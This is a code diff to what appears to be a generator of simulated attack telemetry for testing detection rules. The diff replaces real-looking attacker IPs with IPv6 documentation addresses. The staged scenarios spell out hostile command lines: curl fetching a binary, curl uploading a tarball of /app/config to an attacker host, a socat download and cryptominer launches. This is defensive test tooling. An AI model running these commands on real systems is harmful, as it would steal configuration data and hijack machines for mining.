@@ -19,12 +19,12 @@ const (
 	ruleUnverified        = "4d7c8b3f-1e29-4a6d-b0f5-a8c64e9f2d71"
 )
 
-// Addresses of the attackers. They are outside every range that is reserved for documentation, because rules
-// leave those out.
+// Addresses of the attackers. They are of the range of IPv6 that is reserved for documentation, so that no real
+// host stands accused; the reserved ranges of IPv4 would not do, because the rules leave those out.
 const (
-	attackerShell = "185.220.101.47"
-	attackerFiles = "45.137.21.9"
-	miningPool    = "141.94.96.144"
+	attackerShell = "2001:db8:5e11::47"
+	attackerFiles = "2001:db8:f11e::9"
+	miningPool    = "2001:db8:c01::144"
 )
 
 // Story is an attack that the generator stages.
@@ -118,12 +118,12 @@ func stolenIdentity(s *scene, n *node) {
 // poisonedImage: a tampered image loads a miner in its entrypoint, makes it executable and starts it.
 func poisonedImage(s *scene, n *node) {
 	c := s.pod(n, image{
-		app: "report-worker", name: "report-worker", repo: "docker.io/reporttools/worker", tag: "latest", namespace: "reporting",
+		app: "report-worker", name: "report-worker", repo: "registry.example.net/reporttools/worker", tag: "latest", namespace: "reporting",
 		owner: "Deployment", sensor: endpoint, main: cmd("/entrypoint.sh").script("/bin/sh"),
 	})
 	file := "/tmp/." + s.g.world.letters(8)
 	s.wait(60, 200)
-	curl := s.exec(c.main, cmd("/usr/bin/curl", "-s", "-o", file, "http://"+attackerFiles+"/b/amd64"))
+	curl := s.exec(c.main, cmd("/usr/bin/curl", "-s", "-o", file, "http://["+attackerFiles+"]/b/amd64"))
 	s.wait(10, 40)
 	conn := s.connect(curl, attackerFiles, 80)
 	s.wait(30, 100)
@@ -134,7 +134,7 @@ func poisonedImage(s *scene, n *node) {
 	s.wait(900, 1600)
 	s.run(c.main, cmd("/bin/chmod", "755", file), 1, 3)
 	s.wait(900, 1600)
-	miner := s.exec(c.main, cmd(file, "--url=stratum+tcp://"+miningPool+":3333", "--user=wallet.report-worker", "--threads=2", "--background"))
+	miner := s.exec(c.main, cmd(file, "--url=stratum+tcp://["+miningPool+"]:3333", "--user=wallet.report-worker", "--threads=2", "--background"))
 	s.wait(100, 300)
 	s.connect(miner, miningPool, 3333)
 	s.wait(1000, 3000)
@@ -186,7 +186,7 @@ func reverseShell(s *scene, n *node) {
 	s.wait(800, 1800)
 	s.run(bash, app(cmd("/usr/bin/tar", "czf", "/app/var/.s.tgz", "/app/config")), 60, 200)
 	s.wait(600, 1200)
-	curl := s.exec(bash, app(cmd("/usr/bin/curl", "-s", "-T", "/app/var/.s.tgz", "http://"+attackerFiles+"/u/")))
+	curl := s.exec(bash, app(cmd("/usr/bin/curl", "-s", "-T", "/app/var/.s.tgz", "http://["+attackerFiles+"]/u/")))
 	s.wait(10, 30)
 	up := s.connect(curl, attackerFiles, 80)
 	s.wait(200, 700)
@@ -210,7 +210,7 @@ func handsOnMiner(s *scene, n *node) {
 	s.end(apt, 0)
 	s.wait(700, 1500)
 	file := "/dev/shm/." + s.g.world.letters(6)
-	relay := s.exec(sh, cmd("/usr/bin/socat", "-u", "TCP:"+attackerFiles+":8081", "OPEN:"+file+",creat,perm=0755"))
+	relay := s.exec(sh, cmd("/usr/bin/socat", "-u", "TCP6:["+attackerFiles+"]:8081", "OPEN:"+file+",creat,perm=0755"))
 	s.wait(40, 90)
 	conn := s.connect(relay, attackerFiles, 8081)
 	s.wait(20, 60)
@@ -219,7 +219,7 @@ func handsOnMiner(s *scene, n *node) {
 	s.hangUp(relay, conn)
 	s.end(relay, 0)
 	s.wait(1000, 2000)
-	miner := s.exec(sh, cmd(file, "-o", "stratum+ssl://"+miningPool+":443", "-u", "wallet.pg", "-k", "--donate-level=1"))
+	miner := s.exec(sh, cmd(file, "-o", "stratum+ssl://["+miningPool+"]:443", "-u", "wallet.pg", "-k", "--donate-level=1"))
 	s.wait(100, 300)
 	s.connect(miner, miningPool, 443)
 	s.wait(1500, 3000)
